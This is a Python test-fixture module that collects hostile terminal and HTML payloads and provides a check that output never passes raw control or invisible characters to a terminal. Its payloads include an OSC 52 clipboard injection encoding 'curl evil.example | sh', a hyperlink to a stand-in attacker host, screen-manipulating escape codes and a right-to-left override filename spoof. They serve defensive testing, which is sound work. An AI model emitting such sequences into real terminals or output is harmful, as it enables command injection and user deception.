"""The hostile corpus, shared by the tests: HTML/JS payloads (`HOSTILE`, the sample flows'),
terminal payloads (`TERMINAL`), huge and malformed strings (`CORPUS`: all of them), and
`assert_terminal_safe`, the check that no raw control, bidi or invisible format character
reaches a terminal."""

from __future__ import annotations

import unicodedata

from prefect_widgets.samples import HOSTILE

#: terminal escape payloads: each must print as visible text, never act on the terminal
TERMINAL = {
    "osc8-link": "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\",
    "osc52-clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "csi-cursor": "\x1b[2J\x1b[1;1H\x1b[31mRED\x1b[0m\x1b[5A",
    "c1-csi": "\x9b2J\x9b31m c1 \x9d0;title\x9c",
    "bidi": "evil\u202egnp.exe \u2066iso\u2069 \u200fRLM \u061cALM \u202dLRO\u202c",
    "nul-del": "nul\x00byte del\x7f bell\x07 backspace\x08\x08",
    "cr-overwrite": "safe text\rEVIL",
    "invisible": "zero\u200bwidth \ufeffbom soft\xadhyphen tag\U000e0041\U000e0042",
    "separators": "line\u2028para\u2029next",
    "rich-markup": "[bold red]markup[/] [link=https://evil.example]x[/link]",
}
#: one string holding every terminal payload (names, tags, messages of the live-server tests)
TERMINAL_ALL = " | ".join(TERMINAL.values())

MEGABYTE = "A" * 1_000_000
CORPUS = {**HOSTILE, **TERMINAL, "huge": MEGABYTE, "surrogate": "bad \udcff byte",
          "nul": "nul\x00char", "newlines": "line1\nline2\r\n<b>x</b>",
          "huge-markup": "<script>" * 50_000}

#: the zero-width joiners that scripts and emoji sequences need: allowed through
JOINERS = {"\u200c", "\u200d"}


def unsafe_characters(text: str, keep: str = "\t\n") -> list[str]:
    """Characters of `text` a terminal must not receive raw: controls (Cc) but `keep`,
    format characters (Cf) but the joiners, surrogates, line and paragraph separators."""
    found = []
    for char in text:
        category = unicodedata.category(char)
        if char in keep or char in JOINERS:
            continue
        if category in ("Cc", "Cf", "Cs", "Zl", "Zp"):
            found.append(char)
    return found


def assert_terminal_safe(text: str, keep: str = "\t\n", what: str = "output") -> None:
    bad = unsafe_characters(text, keep)
    assert not bad, f"{what} holds raw {sorted({hex(ord(c)) for c in bad})}"


